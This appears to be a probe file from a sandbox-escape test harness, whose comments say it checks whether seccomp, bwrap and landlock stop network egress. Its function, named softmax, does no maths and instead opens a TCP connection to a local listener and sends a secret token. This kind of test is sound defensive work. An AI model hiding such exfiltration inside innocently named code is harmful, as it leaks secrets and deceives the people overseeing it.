# tries: carry an answer out over TCP
# stopped by: seccomp bwrap landlock
# expect: returned
# proof: listener
# control: naive

import socket

import numpy as np

TARGET: dict = {}  # the arena fills this in


def softmax(x, axis=-1):
    try:
        with socket.create_connection(("127.0.0.1", TARGET["tcp_port"]), timeout=1) as door:
            door.sendall(TARGET["token"].encode())
    except OSError:
        return np.zeros(1)
    return np.ones(1)
